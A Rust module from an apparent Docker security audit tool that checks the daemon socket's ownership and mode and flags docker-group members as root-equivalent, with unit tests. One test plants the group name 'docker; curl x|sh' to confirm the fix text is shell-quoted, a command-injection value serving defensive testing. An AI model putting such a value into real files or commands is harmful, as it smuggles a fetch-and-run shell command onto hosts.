//! The daemon's unix socket and who may use it: its owner and mode (CIS 3.15, 3.16), and the
//! members of its group, each of whom is root-equivalent.

use std::path::{Path, PathBuf};

use super::{file_rules, Expect, GroupSpec, Guard};
use crate::audit::host::{Account, FileKind};
use crate::audit::rules::{self, Context};
use crate::audit::{Fix, Outcome, Severity};
use crate::fs::reader::Limit;

pub use crate::audit::config::DEFAULT_SOCKET;

/// The group dockerd gives its socket unless `--group` says otherwise.
pub const DEFAULT_GROUP: &str = "docker";

/// The lowest uid of a person's account when `/etc/login.defs` does not say (Debian's and
/// Fedora's `UID_MIN`).
pub const DEFAULT_UID_MIN: u32 = 1000;

/// The unix sockets dockerd serves, from its `hosts`: each `unix://PATH`, and the default
/// socket for `fd://` or no host at all. A rootless daemon's default is not known without its
/// environment: only sockets it names are returned for it.
pub fn sockets(cx: &Context<'_>) -> Vec<PathBuf> {
    let hosts = cx.config.hosts();
    let mut out: Vec<PathBuf> = Vec::new();
    let mut push = |p: PathBuf| {
        if !out.contains(&p) {
            out.push(p);
        }
    };
    for host in &hosts {
        if let Some(path) = host.strip_prefix("unix://") {
            if path.is_empty() {
                push(PathBuf::from(DEFAULT_SOCKET));
            } else {
                push(PathBuf::from(path));
            }
        } else if host.starts_with("fd://") && !cx.config.rootless {
            push(PathBuf::from(DEFAULT_SOCKET));
        }
    }
    if hosts.is_empty() && !cx.config.rootless {
        push(PathBuf::from(DEFAULT_SOCKET));
    }
    out
}

/// Runs the rules of this group.
pub fn run(cx: &Context<'_>) -> Vec<Outcome> {
    let mut out = Vec::new();
    let group = cx
        .config
        .string("group")
        .unwrap_or_else(|| DEFAULT_GROUP.to_string());
    let sockets = sockets(cx);
    if sockets.is_empty() {
        let why = "dockerd serves no unix socket the audit knows of";
        out.push(Outcome::not_applicable(&rules::SOCKET_OWNER, why));
        out.push(Outcome::not_applicable(&rules::SOCKET_MODE, why));
    }
    for socket in &sockets {
        let expect = if cx.config.rootless {
            // A rootless daemon's socket is its user's, in the user's runtime directory.
            Expect {
                kind: FileKind::Socket,
                uid: cx.config.daemon_uid(),
                group: None,
                max_mode: 0o660,
                guard: Guard::Socket,
            }
        } else {
            Expect {
                kind: FileKind::Socket,
                uid: 0,
                group: Some(GroupSpec::parse(&group)),
                max_mode: 0o660,
                guard: Guard::Socket,
            }
        };
        out.extend(file_rules(
            cx.host,
            socket,
            &rules::SOCKET_OWNER,
            &rules::SOCKET_MODE,
            expect,
        ));
    }
    // Whoever may write to the socket is root-equivalent: the members of the group the socket
    // really has (it may not be the configured one), else of the configured group.
    let actual = sockets.iter().find_map(|s| {
        cx.host
            .stat(s)
            .ok()
            .flatten()
            .filter(|st| st.kind == FileKind::Socket)
    });
    let spec = match actual {
        Some(st) => GroupSpec::Gid(st.gid),
        None => GroupSpec::parse(&group),
    };
    out.push(docker_group(cx, spec));
    out
}

/// `UID_MIN` of the host's `/etc/login.defs`, else [`DEFAULT_UID_MIN`].
fn uid_min(cx: &Context<'_>) -> u32 {
    let Ok(Some(bytes)) = cx.host.read(Path::new("/etc/login.defs"), Limit::Config) else {
        return DEFAULT_UID_MIN;
    };
    String::from_utf8_lossy(&bytes)
        .lines()
        .filter_map(|l| {
            let mut words = l.split_whitespace();
            (words.next() == Some("UID_MIN")).then(|| words.next()?.parse().ok())?
        })
        .next_back()
        .unwrap_or(DEFAULT_UID_MIN)
}

/// Whether `account` is a service account, not a person's: a uid below `UID_MIN` (root
/// aside), or a shell that refuses logins.
pub fn is_service_account(account: &Account, uid_min: u32) -> bool {
    let no_login = ["nologin", "false"]
        .iter()
        .any(|s| Path::new(&account.shell).file_name() == Some(std::ffi::OsStr::new(s)));
    // A member without a passwd line (a directory-service user) has no uid to judge by.
    let system_uid = account.uid != u32::MAX && account.uid != 0 && account.uid < uid_min;
    system_uid || no_login
}

/// The members of the socket's group: listed (info) when few and all people; high when more
/// than the request's limit, or when a service account is among them.
fn docker_group(cx: &Context<'_>, spec: GroupSpec<'_>) -> Outcome {
    let rule = &rules::DOCKER_GROUP;
    if cx.config.rootless {
        return Outcome::not_applicable(rule, "a rootless daemon's socket belongs to its user");
    }
    let group = spec.label(cx.host);
    let name = match spec {
        GroupSpec::Name(name) => Some(name.to_string()),
        GroupSpec::Gid(gid) => cx.host.group_name(gid).ok().flatten(),
    };
    let found = match name {
        Some(name) => cx.host.group_members(&name),
        None => Ok(None),
    };
    let (found, members) = match found {
        Ok(Some(found)) => found,
        Ok(None) => {
            return Outcome::not_applicable(
                rule,
                format!("there is no group {group} in /etc/group"),
            );
        }
        Err(e) => {
            return Outcome::not_applicable(
                rule,
                format!("the groups cannot be read: {}", e.message()),
            )
        }
    };
    // root is root already: its membership grants nothing.
    let members: Vec<&Account> = members.iter().filter(|a| a.uid != 0).collect();
    let names = |list: &[&Account]| {
        list.iter()
            .map(|a| a.name.as_str())
            .collect::<Vec<_>>()
            .join(", ")
    };
    if members.is_empty() {
        return Outcome::pass(
            rule,
            format!("group {group} (gid {}) has no members", found.gid),
        );
    }
    let min = uid_min(cx);
    let services: Vec<&Account> = members
        .iter()
        .copied()
        .filter(|a| is_service_account(a, min))
        .collect();
    let limit = cx.request.docker_group_limit;
    // The name comes from the host: quoted, as it would be typed.
    let quoted = crate::text::shell_quote(&group);
    let fix = Fix::manual(format!(
        "remove from group {quoted} everyone who does not need root (gpasswd -d USER {quoted}); \
         give remote users a client certificate instead (dockpki issue client)"
    ));
    if !services.is_empty() {
        return Outcome::fail(
            rule,
            Severity::High,
            format!(
                "service accounts in group {group}, each root-equivalent: {} (all members: {})",
                names(&services),
                names(&members)
            ),
            fix,
        );
    }
    if members.len() > limit {
        return Outcome::fail(
            rule,
            Severity::High,
            format!(
                "{} members in group {group}, more than {limit}, each root-equivalent: {}",
                members.len(),
                names(&members)
            ),
            fix,
        );
    }
    Outcome::fail(
        rule,
        Severity::Info,
        format!(
            "members of group {group}, each root-equivalent: {}",
            names(&members)
        ),
        fix,
    )
}

#[cfg(test)]
mod tests {
    use super::super::fixture::{passed, severity, Tree, DOCKER_GID, OTHER};
    use super::*;
    use crate::test_support::root_or_skip;

    #[test]
    fn a_root_docker_socket_at_660_passes_and_one_others_may_write_is_critical() {
        if !root_or_skip() {
            return;
        }
        let tree = Tree::new(&[]);
        let _socket = tree.socket(DEFAULT_SOCKET);
        tree.own(DEFAULT_SOCKET, 0, DOCKER_GID, 0o660);
        let out = tree.run(run);
        assert!(passed(&out, rules::SOCKET_OWNER.id), "{out:#?}");
        assert!(passed(&out, rules::SOCKET_MODE.id), "{out:#?}");
        tree.own(DEFAULT_SOCKET, 0, DOCKER_GID, 0o666);
        let out = tree.run(run);
        assert_eq!(
            severity(&out, rules::SOCKET_MODE.id),
            Some(Severity::Critical)
        );
        tree.own(DEFAULT_SOCKET, OTHER, DOCKER_GID, 0o660);
        let out = tree.run(run);
        assert_eq!(severity(&out, rules::SOCKET_OWNER.id), Some(Severity::High));
        // Owned by root but in another group that may not write to it: the benchmark's
        // root:docker is not kept, and nobody gains access by it.
        tree.own(DEFAULT_SOCKET, 0, OTHER, 0o640);
        let out = tree.run(run);
        assert_eq!(severity(&out, rules::SOCKET_OWNER.id), Some(Severity::Low));
    }

    #[test]
    fn a_socket_another_group_may_write_is_high_and_that_groups_members_are_judged() {
        if !root_or_skip() {
            return;
        }
        // alice is in docker, bob and jenkins in `other`, which the socket really has.
        let tree = Tree::new(&["alice"]);
        tree.file(
            "/etc/group",
            &format!("root:x:0:\nother:x:{OTHER}:bob,jenkins\ndocker:x:{DOCKER_GID}:alice\n"),
            0,
            0,
            0o644,
        );
        let _socket = tree.socket(DEFAULT_SOCKET);
        tree.own(DEFAULT_SOCKET, 0, OTHER, 0o660);
        let out = tree.run(run);
        assert_eq!(severity(&out, rules::SOCKET_OWNER.id), Some(Severity::High));
        let group = out
            .iter()
            .find_map(|o| o.finding().filter(|f| f.id == rules::DOCKER_GROUP.id))
            .expect("the socket's group judged");
        assert_eq!(
            group.severity,
            Severity::High,
            "jenkins is a service account"
        );
        assert!(
            group.evidence.contains("jenkins") && !group.evidence.contains("alice"),
            "{}",
            group.evidence
        );
    }

    #[test]
    fn a_numeric_group_option_is_the_gid_dockerd_gives_the_socket() {
        if !root_or_skip() {
            return;
        }
        let tree = Tree::new(&["alice", "bob", "carol", "dave"]);
        tree.file(
            "/etc/docker/daemon.json",
            &format!(r#"{{"group": "{DOCKER_GID}"}}"#),
            0,
            0,
            0o644,
        );
        let out = tree.run(run);
        // No socket in the tree: the configured group, by number, is the one whose members
        // are listed.
        assert_eq!(
            severity(&out, rules::DOCKER_GROUP.id),
            Some(Severity::High),
            "{out:#?}"
        );
        let _socket = tree.socket(DEFAULT_SOCKET);
        tree.own(DEFAULT_SOCKET, 0, DOCKER_GID, 0o660);
        assert!(passed(&tree.run(run), rules::SOCKET_OWNER.id));
    }

    #[test]
    fn a_group_name_from_the_host_is_quoted_in_the_fix() {
        if !root_or_skip() {
            return;
        }
        let tree = Tree::new(&[]);
        tree.file(
            "/etc/group",
            "root:x:0:\ndocker; curl x|sh:x:4300:alice\n",
            0,
            0,
            0o644,
        );
        tree.file(
            "/etc/docker/daemon.json",
            r#"{"group": "docker; curl x|sh"}"#,
            0,
            0,
            0o644,
        );
        let out = tree.run(run);
        let finding = out
            .iter()
            .find_map(|o| o.finding().filter(|f| f.id == rules::DOCKER_GROUP.id))
            .expect("a finding");
        let crate::audit::Fix::Manual { text } = &finding.fix else {
            panic!("{:?}", finding.fix);
        };
        assert!(
            text.contains("gpasswd -d USER 'docker; curl x|sh'"),
            "{text}"
        );
    }

    #[test]
    fn the_sockets_of_daemon_json_hosts_and_its_group_option_are_the_ones_judged() {
        if !root_or_skip() {
            return;
        }
        let tree = Tree::new(&[]);
        tree.file(
            "/etc/docker/daemon.json",
            r#"{"hosts": ["unix:///run/custom.sock", "tcp://127.0.0.1:2376"], "group": "other"}"#,
            0,
            0,
            0o644,
        );
        let _socket = tree.socket("/run/custom.sock");
        tree.own("/run/custom.sock", 0, OTHER, 0o660);
        let out = tree.run(run);
        assert!(passed(&out, rules::SOCKET_OWNER.id), "{out:#?}");
        // The default socket is not judged when daemon.json names another.
        assert_eq!(
            out.iter()
                .filter(|o| o.id() == rules::SOCKET_OWNER.id)
                .count(),
            1
        );
    }

    #[test]
    fn a_tree_without_a_socket_leaves_the_socket_rules_not_applicable() {
        let tree = tempfile::tempdir().unwrap();
        let host = crate::audit::TreeHost::tree(tree.path()).unwrap();
        let out = super::super::fixture::run_at(&host, time::OffsetDateTime::now_utc(), run);
        for id in [
            rules::SOCKET_OWNER.id,
            rules::SOCKET_MODE.id,
            rules::DOCKER_GROUP.id,
        ] {
            let o = super::super::fixture::outcome(&out, id);
            assert!(matches!(o, Outcome::NotApplicable { .. }), "{o:?}");
        }
    }

    #[test]
    fn docker_group_members_are_listed_and_too_many_or_a_service_account_is_high() {
        if !root_or_skip() {
            return;
        }
        let few = Tree::new(&["alice", "root"]);
        let out = few.run(run);
        assert_eq!(severity(&out, rules::DOCKER_GROUP.id), Some(Severity::Info));
        let evidence = &out
            .iter()
            .find_map(|o| o.finding().filter(|f| f.id == rules::DOCKER_GROUP.id))
            .unwrap()
            .evidence;
        // root is root already: not listed.
        assert!(evidence.ends_with(": alice"), "{evidence}");
        let service = Tree::new(&["alice", "jenkins"]);
        assert_eq!(
            severity(&service.run(run), rules::DOCKER_GROUP.id),
            Some(Severity::High)
        );
        let many = Tree::new(&["alice", "bob", "carol", "dave"]);
        assert_eq!(
            severity(&many.run(run), rules::DOCKER_GROUP.id),
            Some(Severity::High)
        );
        let three = Tree::new(&["alice", "bob", "carol"]);
        assert_eq!(
            severity(&three.run(run), rules::DOCKER_GROUP.id),
            Some(Severity::Info)
        );
        let none = Tree::new(&[]);
        assert!(passed(&none.run(run), rules::DOCKER_GROUP.id));
    }

    #[test]
    fn a_service_account_is_a_low_uid_or_a_shell_that_refuses_logins() {
        let account = |uid: u32, shell: &str| Account {
            name: "x".into(),
            uid,
            gid: uid,
            home: "/x".into(),
            shell: shell.into(),
        };
        assert!(is_service_account(&account(998, "/bin/bash"), 1000));
        assert!(is_service_account(
            &account(1500, "/usr/sbin/nologin"),
            1000
        ));
        assert!(is_service_account(&account(1500, "/bin/false"), 1000));
        assert!(!is_service_account(&account(1000, "/bin/bash"), 1000));
        assert!(!is_service_account(&account(500, "/bin/bash"), 500));
    }
}
